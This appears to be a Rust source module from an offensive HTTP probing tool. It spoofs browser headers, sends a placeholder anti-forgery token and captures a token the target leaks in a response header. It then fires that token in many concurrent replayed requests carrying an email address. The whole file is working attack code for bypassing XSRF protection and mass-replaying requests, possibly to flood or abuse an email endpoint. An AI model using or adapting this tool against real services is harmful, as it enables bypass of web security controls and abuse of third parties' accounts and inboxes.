//! HTTP probe session for token acquisition and replay.
//!
//! One `reqwest::Client` carries the fixed header set and the cookie jar;
//! the jar is reused unchanged across every request of a session, including
//! concurrent replays.

use std::time::Duration;

use reqwest::header::{HeaderMap, HeaderValue, ACCEPT, CONTENT_TYPE, ORIGIN, REFERER, USER_AGENT};
use reqwest::StatusCode;
use serde_json::json;
use tracing::debug;

use crate::error::ProbeError;

/// Response header the target leaks its opaque token through.
pub const TOKEN_HEADER: &str = "Cf-Ray-Status-Id-Tn";

/// Request header carrying the anti-forgery token.
pub const XSRF_HEADER: &str = "sxsrf";

/// Sentinel sent before any real token is held.
pub const INVALID_TOKEN: &str = "invalid-token";

#[derive(Debug, Clone)]
pub struct ProbeConfig {
    pub url: String,
    pub origin: String,
    pub referer: String,
    pub email: String,
    pub timeout_secs: u64,
}

/// Outcome of the acquisition request.
#[derive(Debug)]
pub struct Acquisition {
    pub status: StatusCode,
    /// Token from [`TOKEN_HEADER`], if the target leaked one.
    pub token: Option<String>,
    /// Full response headers, for verbose inspection.
    pub headers: HeaderMap,
}

/// Outcome of a single tampered send.
#[derive(Debug)]
pub struct SendOutcome {
    pub status: StatusCode,
    pub body: String,
}

/// Probe session: HTTP client, cookie jar, and fixed headers.
#[derive(Clone)]
pub struct ProbeClient {
    client: reqwest::Client,
    config: ProbeConfig,
}

impl ProbeClient {
    pub fn new(config: ProbeConfig) -> Result<Self, ProbeError> {
        let mut default_headers = HeaderMap::new();
        default_headers.insert("platformtypeid", HeaderValue::from_static("1"));
        default_headers.insert(USER_AGENT, HeaderValue::from_static("Mozilla/5.0"));
        default_headers.insert(ACCEPT, HeaderValue::from_static("application/json"));
        default_headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/json"));
        default_headers.insert(
            ORIGIN,
            HeaderValue::from_str(&config.origin).map_err(|e| ProbeError::Config {
                message: format!("invalid origin value: {e}"),
            })?,
        );
        default_headers.insert(
            REFERER,
            HeaderValue::from_str(&config.referer).map_err(|e| ProbeError::Config {
                message: format!("invalid referer value: {e}"),
            })?,
        );

        let client = reqwest::Client::builder()
            .timeout(Duration::from_secs(config.timeout_secs))
            .cookie_store(true)
            .default_headers(default_headers)
            .build()
            .map_err(|e| ProbeError::Config {
                message: format!("failed to create HTTP client: {e}"),
            })?;

        Ok(Self { client, config })
    }

    fn body(&self) -> serde_json::Value {
        json!({ "email": self.config.email, "isemail": true })
    }

    /// Request a token, presenting the invalid anti-forgery sentinel.
    pub async fn acquire(&self) -> Result<Acquisition, ProbeError> {
        debug!(url = %self.config.url, "requesting token");
        let response = self
            .client
            .post(&self.config.url)
            .header(XSRF_HEADER, INVALID_TOKEN)
            .json(&self.body())
            .send()
            .await
            .map_err(|e| ProbeError::Network {
                message: format!("request failed: {e}"),
            })?;

        let status = response.status();
        let headers = response.headers().clone();
        let token = headers
            .get(TOKEN_HEADER)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string);
        debug!(%status, token_present = token.is_some(), "acquisition response");

        Ok(Acquisition {
            status,
            token,
            headers,
        })
    }

    /// Send one request with `token` in the anti-forgery header, reusing the
    /// session's cookies.
    pub async fn send(&self, token: &str) -> Result<SendOutcome, ProbeError> {
        let response = self
            .client
            .post(&self.config.url)
            .header(XSRF_HEADER, token)
            .json(&self.body())
            .send()
            .await
            .map_err(|e| ProbeError::Network {
                message: format!("request failed: {e}"),
            })?;

        let status = response.status();
        let body = response.text().await.unwrap_or_default();
        Ok(SendOutcome { status, body })
    }

    /// Fire `count` sends concurrently and wait for every one to finish.
    ///
    /// Each task reports its own outcome; failures are not aggregated back
    /// to the caller, and there is no ordering guarantee between tasks.
    pub async fn replay(&self, token: &str, count: usize) {
        let mut handles = Vec::with_capacity(count);
        for i in 0..count {
            let probe = self.clone();
            let token = token.to_string();
            handles.push(tokio::spawn(async move {
                match probe.send(&token).await {
                    Ok(outcome) => println!("[+] replay {}: status {}", i + 1, outcome.status),
                    Err(e) => eprintln!("[!] replay {} failed: {e}", i + 1),
                }
            }));
        }
        futures::future::join_all(handles).await;
    }
}
